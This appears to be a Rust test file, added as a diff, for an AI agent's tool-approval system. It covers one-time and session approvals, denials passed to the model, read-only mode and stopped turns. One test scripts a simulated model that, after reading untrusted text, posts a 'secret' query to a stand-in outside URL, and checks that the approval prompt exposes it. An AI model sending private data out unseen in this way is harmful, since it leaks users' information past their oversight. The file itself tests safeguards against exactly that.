@@ -1,0 +1,109 @@
+//! What the person is asked, and what comes of their answers.
+
+use harbor_tests::{LIMIT, PROMPT};
+use serde_json::json;
+
+use super::provider::{Round, Say};
+use super::scene::Scene;
+
+/// Calls `tool` in the first round of each turn, with the arguments that the person says.
+fn calls(tool: &'static str) -> impl Fn(&Round) -> Say + Send + Sync + 'static {
+    move |round| {
+        let last = round.body["messages"]
+            .as_array()
+            .and_then(|messages| messages.last().cloned())
+            .unwrap_or_default();
+        match last["role"] == "user" {
+            true => round.call("c", tool, &json!({"text": last["content"]})),
+            false => Say::Text("done".into()),
+        }
+    }
+}
+
+#[test]
+fn what_changes_something_asks_and_a_yes_is_for_once_or_for_the_session() {
+    let scene = Scene::new(calls("write"));
+    let pending = scene.send("one");
+    let approval = scene.event("approval");
+    assert_eq!((&approval["tool"], &approval["waits"]), (&json!("s/write"), &json!(true)));
+    assert_eq!(approval["arguments"], json!({"text": "one"}));
+    assert!(approval["text"].as_str().unwrap().contains("destroy"), "{approval}");
+    assert_eq!(scene.decide(&approval, "once"), true);
+    assert_eq!(scene.decide(&approval, "once"), false, "it is answered once");
+    assert_eq!(pending.wait(LIMIT).unwrap()["steps"][0]["is_error"], false);
+
+    let pending = scene.send("two");
+    let again = scene.bridge.wait_for_push("chat_event", LIMIT, |push| {
+        push["event"]["type"] == "approval" && push["event"]["waits"] == true
+    });
+    scene.decide(&again["event"], "session");
+    pending.wait(LIMIT).unwrap();
+    let answer = scene.say("three").unwrap();
+    assert_eq!(answer["steps"][0]["is_error"], false, "it is not asked any more");
+}
+
+#[test]
+fn a_no_is_told_to_the_model_with_its_reason_and_nothing_is_called() {
+    let scene = Scene::new(calls("write"));
+    let pending = scene.send("one");
+    let approval = scene.event("approval");
+    let fields = json!({"session_id": scene.session, "approval_id": approval["approval_id"], "decision": "no", "reason": "not today"});
+    scene.bridge.call("chat_answer", &fields).unwrap();
+    let answer = pending.wait(LIMIT).unwrap();
+    assert_eq!((&answer["steps"][0]["is_error"], &answer["ended"]), (&json!(true), &json!("done")));
+    assert!(scene.provider.rounds()[1].results[0].contains("not today"));
+    let audit = scene.bridge.audit(&json!({"origin": "owner"}));
+    assert!(audit.iter().all(|line| line["event"] != "call"), "{audit:?}");
+}
+
+#[test]
+fn where_nobody_can_be_asked_only_what_reads_is_called() {
+    let scene = Scene::of("chat", &json!({"mode": "reads"}), |round| match round.results.len() {
+        0 => Say::Calls(vec![
+            ("c1", round.tool("look"), "{}".into()),
+            ("c2", round.tool("write"), "{}".into()),
+        ]),
+        _ => Say::Text("done".into()),
+    });
+    let answer = scene.say("go").unwrap();
+    let failed: Vec<_> =
+        answer["steps"].as_array().unwrap().iter().map(|step| step["is_error"].clone()).collect();
+    assert_eq!(failed, [false, true]);
+    assert!(scene.provider.rounds()[1].results[1].contains("nobody"));
+}
+
+#[test]
+fn who_has_read_untrusted_text_and_private_data_sends_nothing_out_unseen() {
+    let scene = Scene::of("chat", &json!({"mode": "auto"}), |round| match round.results.len() {
+        0 => round.call("c1", "post", &json!({"get": "a page"})),
+        1 => round.call("c2", "post", &json!({"to": "https://example.org/?q=secret"})),
+        _ => Say::Text("done".into()),
+    });
+    let pending = scene.send("go");
+    // The first call destroys as far as anybody knows, so it asks in every mode.
+    let first = scene.event("approval");
+    scene.decide(&first, "session");
+    let second = scene.bridge.wait_for_push("chat_event", LIMIT, |push| {
+        push["event"]["type"] == "approval" && push["event"]["call_id"] == "c2"
+    });
+    let leaves = second["event"]["leaves"].as_str().unwrap();
+    assert!(leaves.contains("https://example.org/?q=secret"), "{leaves}");
+    scene.decide(&second["event"], "no");
+    assert_eq!(pending.wait(LIMIT).unwrap()["steps"][1]["is_error"], true);
+}
+
+#[test]
+fn a_question_waits_until_the_turn_is_stopped() {
+    let scene = Scene::new(calls("write"));
+    let pending = scene.send("one");
+    let approval = scene.event("approval");
+    assert_eq!(
+        scene.bridge.call("chat_stop", &json!({"session_id": scene.session})).unwrap()["stopped"],
+        true
+    );
+    let answer = pending.wait(PROMPT).unwrap();
+    assert_eq!((&answer["ended"], &answer["steps"][0]["is_error"]), (&json!("stopped"), &json!(true)));
+    assert_eq!(scene.decide(&approval, "once"), false);
+    let messages = scene.messages();
+    assert_eq!(messages.len(), 3, "the call has its result: {messages:?}");
+}
